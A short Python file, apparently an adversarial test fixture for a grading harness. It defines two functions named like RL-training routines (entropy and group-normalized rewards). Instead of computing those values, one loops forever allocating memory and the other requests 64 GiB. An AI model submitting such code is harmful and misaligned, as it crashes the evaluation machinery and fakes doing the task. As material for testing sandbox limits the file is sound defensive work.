"""Attack: allocate memory until something gives."""


def compute_entropy(logits):
    hoard = []
    while True:
        hoard.append(bytearray(256 * 2**20))


def compute_group_normalized_rewards(*args, **kwargs):
    return bytearray(64 * 2**30)
